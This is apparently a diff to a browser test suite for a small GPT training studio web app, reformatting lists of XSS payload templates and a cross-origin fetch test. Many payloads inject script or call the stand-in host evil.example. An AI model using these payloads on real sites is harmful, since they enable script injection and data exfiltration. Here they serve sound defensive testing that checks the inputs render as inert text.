@@ -22,20 +22,27 @@ DEEDS = [
     "import('//evil.example/x.js')",
 ]
 PLACES = [
-    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "</script><script>{0}</script>", "<script src=//evil.example/{0}></script>",
-    "<img src=x onerror={0}>", "<img src=//evil.example/{0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>",
-    "<svg><animate onbegin={0} attributeName=x>", "<math><mi xlink:href=javascript:{0}>x", "<iframe srcdoc='<script>{0}</script>'>",
-    "<iframe src=javascript:{0}>", "<object data=javascript:{0}>", "<embed src=//evil.example/{0}>", "<body onload={0}>",
-    "<details open ontoggle={0}>", "<video><source onerror={0}>", "<input autofocus onfocus={0}>", "<marquee onstart={0}>",
-    "<a href=javascript:{0} autofocus onfocus={0}>x</a>", "<form action=//evil.example/{0}><button autofocus>", "<base href=//evil.example/>{0}",
+    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "</script><script>{0}</script>",
+    "<script src=//evil.example/{0}></script>", "<img src=x onerror={0}>", "<img src=//evil.example/{0}>",
+    "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x>",
+    "<math><mi xlink:href=javascript:{0}>x", "<iframe srcdoc='<script>{0}</script>'>", "<iframe src=javascript:{0}>",
+    "<object data=javascript:{0}>", "<embed src=//evil.example/{0}>", "<body onload={0}>",
+    "<details open ontoggle={0}>", "<video><source onerror={0}>", "<input autofocus onfocus={0}>",
+    "<marquee onstart={0}>", "<a href=javascript:{0} autofocus onfocus={0}>x</a>",
+    "<form action=//evil.example/{0}><button autofocus>", "<base href=//evil.example/>{0}",
     "<link rel=stylesheet href=//evil.example/{0}>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
-    "<style>*{{background:url(//evil.example/{0})}}</style>", "</textarea><script>{0}</script>", "</title><script>{0}</script>",
-    "</style><script>{0}</script>", "--><script>{0}</script><!--", "]]><script>{0}</script>", "\"><script>{0}</script>", "'><script>{0}</script>",
-    "\" autofocus onfocus={0} x=\"", "' onmouseover={0} '", "javascript:{0}", "data:text/html,<script>{0}</script>", "{{{{constructor.constructor('{0}')()}}}}",
-    "${{{0}}}", "&lt;script&gt;{0}&lt;/script&gt;", "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
+    "<style>*{{background:url(//evil.example/{0})}}</style>", "</textarea><script>{0}</script>",
+    "</title><script>{0}</script>", "</style><script>{0}</script>", "--><script>{0}</script><!--",
+    "]]><script>{0}</script>", "\"><script>{0}</script>", "'><script>{0}</script>", "\" autofocus onfocus={0} x=\"",
+    "' onmouseover={0} '", "javascript:{0}", "data:text/html,<script>{0}</script>",
+    "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "&lt;script&gt;{0}&lt;/script&gt;",
+    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
 ]  # fmt: skip
 STRINGS = [place.format(deed) for place in PLACES for deed in DEEDS]
-COUNT_NODES = "document.querySelectorAll('script, iframe, object, embed, base, form[action], main img, main link, main style, math, marquee').length"
+COUNT_NODES = (
+    "document.querySelectorAll('script, iframe, object, embed, base, form[action], main img, main link, main style,"
+    " math, marquee').length"
+)
 ALARM = "window.hits = 0; window.hit = () => { window.hits += 1; return 0; };"
 
 
@@ -138,6 +145,9 @@ def test_200_scripts_in_every_place_stay_text(chromium, hostile):
         watched.quiet()
         watched.check(f"{name}: {mine[-1]}")
         assert field.input_value() == mine[-1]
+        if name == "tokenizer":
+            shown = page.locator(".pieces").first.locator(".piece-text").all_inner_texts()
+            assert "".join(shown).replace("·", " ") == mine[-1]
         assert page.locator(".pane > div > .error").all_inner_texts() == [], name
     for name in ("data", "training", "embeddings", "compare"):  # what the corpus, its tokens and its samples say
         watched.open(f"/{name}", run="strings")
@@ -148,10 +158,9 @@ def test_200_scripts_in_every_place_stay_text(chromium, hostile):
         watched.check(f"{name}: tables")
     watched.open("/training", run="strings", step="0")
     buttons = page.locator("[aria-label='Steps with a sample'] button")
-    assert (
-        "<script" in page.locator(".run-sample").inner_text() + page.content().replace("&lt;", "<")
-        and buttons.count() > 0
-    )
+    assert buttons.count() > 0
+    sample = page.locator(".run-sample").inner_text()
+    assert any(string in sample for string in STRINGS), sample
     watched.check("samples")
     watched.page.goto(f"{hostile.address}/%3Cimg%20src=x%20onerror=hit()%3E")
     page.get_by_role("heading", name="No such page").wait_for()
@@ -162,14 +171,18 @@ def test_200_scripts_in_every_place_stay_text(chromium, hostile):
 FOREIGN = b"""<!doctype html><title>elsewhere</title><p>A page that somebody visits.</p>"""
 TRY = """async ([studio, token]) => {
   const tried = {};
-  const attempt = async (name, work) => { try { tried[name] = await Promise.race([work(), new Promise((go) => setTimeout(go, 4000, "nothing"))]); } catch (error) { tried[name] = error.name; } };
+  const late = () => new Promise((go) => setTimeout(go, 4000, "nothing"));
+  const attempt = async (name, work) => {
+    try { tried[name] = await Promise.race([work(), late()]); } catch (error) { tried[name] = error.name; }
+  };
   const job = JSON.stringify({kind: "train", corpus: "tales", steps: 1});
   const headers = {"Content-Type": "application/json", "X-Tinygpt-Token": token, "X-Tinygpt-Once": crypto.randomUUID()};
   await attempt("read", async () => (await fetch(`${studio}/api/runs`)).text());
   await attempt("read with cookies", async () => (await fetch(`${studio}/api/runs`, {credentials: "include"})).text());
   await attempt("blind", async () => (await fetch(`${studio}/api/runs`, {mode: "no-cors"})).text());
   await attempt("job", async () => (await fetch(`${studio}/api/jobs`, {method: "POST", body: job, headers})).text());
-  await attempt("blind job", async () => (await fetch(`${studio}/api/jobs`, {method: "POST", body: job, mode: "no-cors"})).text());
+  const blind = {method: "POST", body: job, mode: "no-cors"};
+  await attempt("blind job", async () => (await fetch(`${studio}/api/jobs`, blind)).text());
   await attempt("stop", async () => (await fetch(`${studio}/api/jobs/x`, {method: "DELETE", headers})).text());
   await attempt("events", () => new Promise((go) => {
     const source = new EventSource(`${studio}/api/runs/story/events`);
